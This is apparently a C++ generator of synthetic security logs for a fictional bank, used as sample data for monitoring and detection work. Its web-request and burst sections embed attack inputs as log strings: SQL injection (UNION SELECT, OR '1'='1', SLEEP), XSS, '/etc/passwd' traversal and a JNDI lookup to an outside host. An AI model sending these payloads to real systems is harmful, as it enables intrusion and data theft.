#include "core/sample/telemetry.h"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <cmath>

namespace parapet::sample {

namespace {

struct Draft {
    Time time{};
    EventKind kind = EventKind::other;
    Outcome outcome = Outcome::unknown;
    Severity severity = Severity::info;
    std::string user, target_user, source_ip, destination_ip, host, process, object, rule, message;
    std::uint16_t source_port = 0, destination_port = 0;
};

// One day of one feed. The shape of a day: few at night, most at ten and at three.
class Day {
public:
    Day(const Company& c, Random& random, Time midnight, std::vector<Draft>& out)
        : c_(c)
        , r_(random)
        , midnight_(midnight)
        , out_(out)
        , weekday_(static_cast<int>((unix_seconds(midnight) / 86400 + 3) % 7)) {} // Monday = 0

    void hosts();
    void changes();
    void web();
    void applications();
    void burst(EventKind kind, const char* rule, const char* message, double hour_from, double hour_to, int n,
               const std::string& host);

private:
    [[nodiscard]] bool weekend() const { return weekday_ >= 5; }
    Time at(double hour) const {
        return midnight_ + std::chrono::milliseconds(static_cast<std::int64_t>(hour * 3'600'000.0));
    }
    Time any_time() { return at(24.0 * r_.unit()); }
    Time office_time() {
        const double peak = r_.chance(0.5) ? 10.0 : 15.0;
        return at(std::clamp(peak + 4.0 * (r_.unit() + r_.unit() - 1.0), 0.0, 23.99));
    }
    std::string address() { // a few addresses do most of it
        const double u = r_.unit();
        return c_.attackers[static_cast<std::size_t>(u * u * u * static_cast<double>(c_.attackers.size()))];
    }
    std::uint16_t port() { return static_cast<std::uint16_t>(r_.between(1024, 65000)); }
    Draft& add(Time t, EventKind kind, Outcome outcome, Severity severity, std::string host, std::string rule) {
        Draft d;
        d.time = t;
        d.kind = kind;
        d.outcome = outcome;
        d.severity = severity;
        d.host = std::move(host);
        d.rule = std::move(rule);
        out_.push_back(std::move(d));
        return out_.back();
    }
    void request(EventKind kind, Severity severity, std::string rule, std::string host, std::string path, int n);
    void maintenance();

    const Company& c_;
    Random& r_;
    Time midnight_;
    std::vector<Draft>& out_;
    int weekday_;
};

void Day::hosts() {
    static const std::vector<std::string> k_guesses{"root",   "admin",    "test", "oracle",
                                                    "ubuntu", "postgres", "git",  "pi"};
    for (std::int64_t i = r_.between(90, 150); i > 0; --i) {
        Draft& d = add(any_time(), EventKind::login, Outcome::failure, Severity::low,
                       r_.chance(0.6) ? "bastion-01" : "bastion-02", "sshd.failed_password");
        d.user = r_.pick(k_guesses);
        d.source_ip = address();
        d.source_port = port();
        d.process = "sshd";
        d.message = fmt::format("Failed password for {} from {} port {} ssh2", d.user, d.source_ip, d.source_port);
    }
    for (std::int64_t i = r_.between(40, 70); i > 0; --i) {
        Draft& d =
            add(any_time(), EventKind::ssh, Outcome::unknown, Severity::info, "bastion-01", "sshd.connection_closed");
        d.source_ip = address();
        d.source_port = port();
        d.process = "sshd";
        d.message = fmt::format("Connection closed by {} port {} [preauth]", d.source_ip, d.source_port);
    }
    for (std::int64_t i = weekend() ? r_.between(2, 6) : r_.between(25, 45); i > 0; --i) {
        Draft& d = add(office_time(), EventKind::login, Outcome::success, Severity::info, r_.pick(c_.hosts),
                       "sshd.accepted_publickey");
        d.user = r_.pick(c_.staff);
        d.source_ip = r_.pick(c_.offices);
        d.source_port = port();
        d.process = "sshd";
        d.message = fmt::format("Accepted publickey for {} from {} port {} ssh2", d.user, d.source_ip, d.source_port);
    }
    for (std::int64_t i = weekend() ? r_.between(0, 3) : r_.between(8, 18); i > 0; --i) {
        const bool refused = r_.chance(0.06);
        Draft& d = add(office_time(), EventKind::privilege_escalation, refused ? Outcome::failure : Outcome::success,
                       refused ? Severity::medium : Severity::info, r_.pick(c_.hosts),
                       refused ? "sudo.not_allowed" : "sudo.command");
        d.user = r_.pick(c_.staff);
        d.target_user = "root";
        d.process = "sudo";
        d.object = refused ? "/usr/bin/less /var/log/auth.log" : "/usr/bin/systemctl restart nginx";
        d.message =
            fmt::format("{} : {}; USER=root ; COMMAND={}", d.user, refused ? "command not allowed " : "", d.object);
    }
    changes();
}

// What changed on the hosts, and what they connected to.
void Day::changes() {
    for (std::int64_t i = r_.between(0, 4); i > 0; --i) {
        Draft& d = add(any_time(), EventKind::file_change, Outcome::success, Severity::medium, r_.pick(c_.hosts),
                       "aide.changed");
        d.object = r_.chance(0.5) ? "/etc/ssh/sshd_config" : "/usr/lib/systemd/system/ledger.service";
        d.message = "Checksum changed: " + d.object;
    }
    for (std::int64_t i = r_.between(15, 30); i > 0; --i) {
        Draft& d = add(any_time(), EventKind::outbound_connection, Outcome::allowed, Severity::info, r_.pick(c_.hosts),
                       "firewall.egress");
        d.destination_ip = fmt::format("192.0.2.{}", 100 + r_.below(80));
        d.destination_port = 443;
        d.message = "Outgoing connection to " + d.destination_ip + ":443";
    }
    if (r_.chance(0.08)) {
        Draft& d = add(office_time(), EventKind::new_user, Outcome::success, Severity::medium, r_.pick(c_.hosts),
                       "useradd.new_user");
        d.user = "root";
        d.target_user = fmt::format("svc{:02}", r_.below(40));
        d.process = "useradd";
        d.message = "new user: name=" + d.target_user;
    }
}

void Day::request(EventKind kind, Severity severity, std::string rule, std::string host, std::string path, int n) {
    for (; n > 0; --n) {
        const bool blocked = r_.chance(0.8);
        Draft& d = add(any_time(), kind, blocked ? Outcome::blocked : Outcome::failure, severity, host, rule);
        d.source_ip = address();
        d.process = "nginx";
        d.object = path;
        d.message = fmt::format("GET {} HTTP/1.1 {}", path, blocked ? 403 : 404);
    }
}

void Day::web() {
    const auto n = [this](std::int64_t from, std::int64_t to) { return static_cast<int>(r_.between(from, to)); };
    request(EventKind::sql_injection, Severity::high, "sqli.union_select", "web-banking",
            "/statements/search?q=%27+UNION+SELECT+name%2Cpin+FROM+users--", n(35, 65));
    request(EventKind::sql_injection, Severity::high, "sqli.boolean", "web-banking",
            "/login?user=admin%27+OR+%271%27%3D%271", n(10, 25));
    request(EventKind::xss, Severity::medium, "xss.script_tag", "web-banking",
            "/help?topic=%3Cscript%3Ealert(1)%3C/script%3E", n(15, 30));
    request(EventKind::xss, Severity::medium, "xss.event_handler", "web-banking",
            "/offers?ref=%22onmouseover%3Dalert(1)", n(5, 12));
    request(EventKind::attack_other, Severity::high, "traversal.dotdot", "web-banking",
            "/documents?name=../../../../etc/passwd", n(8, 20));
    request(EventKind::attack_other, Severity::high, "rce.jndi", "payments-api",
            "/v2/rates?x=${jndi:ldap://203.0.113.9/a}", n(2, 8));
    request(EventKind::scan, Severity::low, "scan.sensitive_path", "web-banking", "/.env", n(25, 45));
    request(EventKind::scan, Severity::low, "scan.wordpress", "web-banking", "/wp-login.php", n(15, 30));
    request(EventKind::malformed_request, Severity::low, "http.bad_request", "web-01", "\\x16\\x03\\x01", n(40, 80));
    request(EventKind::malformed_request, Severity::low, "http.bad_host", "payments-api", "/v2/rates", n(10, 25));
}

void Day::applications() {
    for (std::int64_t i = weekend() ? r_.between(180, 260) : r_.between(420, 560); i > 0; --i) {
        const bool failed = r_.chance(0.07);
        Draft& d = add(r_.chance(0.25) ? any_time() : office_time(), EventKind::login,
                       failed ? Outcome::failure : Outcome::success, failed ? Severity::low : Severity::info,
                       "identity", failed ? "app.login_failed" : "app.login");
        d.user = r_.pick(c_.customers);
        d.source_ip = fmt::format("192.0.2.{}", 20 + r_.below(200));
        d.message = failed ? "Login refused: wrong password" : "Login";
    }
    const auto change = [&](EventKind kind, const char* rule, const char* message, std::int64_t from, std::int64_t to,
                            const char* host) {
        for (std::int64_t i = r_.between(from, to); i > 0; --i) {
            Draft& d = add(office_time(), kind, Outcome::success, Severity::info, host, rule);
            d.user = r_.pick(c_.customers);
            d.target_user = d.user;
            d.source_ip = fmt::format("192.0.2.{}", 20 + r_.below(200));
            d.message = message;
        }
    };
    change(EventKind::password_reset, "app.password_reset", "Password reset requested", 12, 26, "identity");
    change(EventKind::account_change, "app.email_changed", "E-mail address changed", 6, 14, "identity");
    change(EventKind::payment_change, "app.payee_changed", "Payee changed", 4, 11, "web-banking");
    for (std::int64_t i = weekend() ? 0 : r_.between(1, 4); i > 0; --i) {
        Draft& d = add(office_time(), EventKind::firewall_change, Outcome::success, Severity::medium, "infra-live",
                       "aws.security_group_ingress");
        d.user = "ci-deploy";
        d.object = fmt::format("sg-{:08x}", r_.below(0x7fffffff));
        d.message = "Ingress rule added to " + d.object;
    }
    for (std::int64_t i = weekend() ? r_.between(0, 2) : r_.between(4, 10); i > 0; --i) {
        Draft& d = add(office_time(), EventKind::infrastructure_change, Outcome::success, Severity::info, "infra-live",
                       "aws.instance_change");
        d.user = "ci-deploy";
        d.object = fmt::format("i-{:012x}", r_.below(0x7fffffffffff));
        d.message = "Instance replaced: " + d.object;
    }
    for (std::int64_t i = r_.between(0, 3); i > 0; --i) {
        Draft& d =
            add(any_time(), EventKind::intrusion_alert, Outcome::unknown, Severity::high, "atm-gw-01", "ids.policy");
        d.source_ip = address();
        d.message = "Alert: connection outside the list of banks";
    }
    maintenance();
}

// Cash machines are serviced on Tuesdays and Thursdays between five and six.
void Day::maintenance() {
    if (weekday_ != 1 && weekday_ != 3) return;
    for (std::int64_t i = r_.between(5, 9); i > 0; --i) {
        const double on = 5.0 + 0.6 * r_.unit();
        const std::string machine = fmt::format("atm-{:04}", 1000 + r_.below(600));
        for (const bool begins : {true, false}) {
            Draft& d = add(at(begins ? on : on + 0.2), EventKind::mode_change, Outcome::success, Severity::info,
                           machine, begins ? "atm.maintenance_on" : "atm.maintenance_off");
            d.user = "service";
            d.message = begins ? "Maintenance mode on" : "Maintenance mode off";
        }
    }
}

void Day::burst(EventKind kind, const char* rule, const char* message, double hour_from, double hour_to, int n,
                const std::string& host) {
    for (; n > 0; --n) {
        // Rises and falls: the sum of two is a triangle.
        const double h = hour_from + (hour_to - hour_from) * 0.5 * (r_.unit() + r_.unit());
        Draft& d = add(at(h), kind, Outcome::blocked, Severity::high, host, rule);
        d.source_ip = r_.chance(0.7) ? "203.0.113.47" : address();
        d.object = "/statements/search";
        d.message = message;
    }
}

void special_days(Day& day, Feed feed, int days_before_end, const std::vector<Draft>&) {
    if (feed == Feed::web && days_before_end == 2) {
        day.burst(EventKind::sql_injection, "sqli.union_select",
                  "GET /statements/search?q=%27+UNION+SELECT HTTP/1.1 403", 3.0, 7.0, 1400, "web-banking");
    }
    if (feed == Feed::web && days_before_end == 0) {
        day.burst(EventKind::sql_injection, "sqli.time_based",
                  "GET /statements/search?q=1%27+AND+SLEEP(5) HTTP/1.1 403", 2.2, 3.8, 260, "web-banking");
    }
    if (feed == Feed::web && days_before_end == 31) {
        day.burst(EventKind::xss, "xss.script_tag", "GET /help?topic=%3Cscript%3E HTTP/1.1 403", 19.0, 22.0, 420,
                  "web-banking");
    }
    if (feed == Feed::hosts && days_before_end == 0) {
        day.burst(EventKind::privilege_escalation, "sudo.not_allowed",
                  "svc-backup : command not allowed ; USER=root ; COMMAND=/usr/bin/less", 10.8, 11.3, 45, "bastion-01");
    }
    if (feed == Feed::applications && days_before_end == 4) {
        day.burst(EventKind::password_reset, "app.password_reset", "Password reset requested", 1.8, 2.6, 160,
                  "identity");
    }
    if (feed == Feed::applications && days_before_end == 3) {
        day.burst(EventKind::mode_change, "atm.maintenance_on", "Maintenance mode on, outside every window", 3.0, 3.02,
                  1, "atm-1214");
    }
}

} // namespace

std::string_view name_of(Feed feed) {
    static constexpr std::array<std::string_view, 3> k_names{"hosts", "web", "applications"};
    return k_names[static_cast<std::size_t>(feed)];
}

void write_events(Feed feed, const Company& company, std::uint64_t seed, Time start, int from, int to, Time end,
                  RecordSink& out, ParseStats& stats) {
    std::vector<Draft> drafts;
    const auto last_day = static_cast<int>((unix_seconds(end) - unix_seconds(start)) / 86400);
    for (int n = from; n < to; ++n) {
        Random random(seed ^ (static_cast<std::uint64_t>(n + 1) * 0x9E3779B1U) ^
                      (static_cast<std::uint64_t>(feed) << 40U));
        Day day(company, random, start + std::chrono::hours(24) * n, drafts);
        if (feed == Feed::hosts)
            day.hosts();
        else if (feed == Feed::web)
            day.web();
        else
            day.applications();
        special_days(day, feed, last_day - n, drafts);
    }
    std::stable_sort(drafts.begin(), drafts.end(), [](const Draft& a, const Draft& b) { return a.time < b.time; });
    std::uint64_t line = 0;
    for (const Draft& d : drafts) {
        if (d.time >= end) break;
        EventView e;
        e.time = d.time;
        e.kind = d.kind;
        e.outcome = d.outcome;
        e.severity = d.severity;
        e.user = d.user;
        e.target_user = d.target_user;
        e.source_ip = d.source_ip;
        e.destination_ip = d.destination_ip;
        e.source_port = d.source_port;
        e.destination_port = d.destination_port;
        e.host = e.asset = d.host;
        e.process = d.process;
        e.object = d.object;
        e.rule = d.rule;
        e.message = d.message;
        e.line = ++line;
        out.event(e);
        ++stats.records;
    }
}

} // namespace parapet::sample
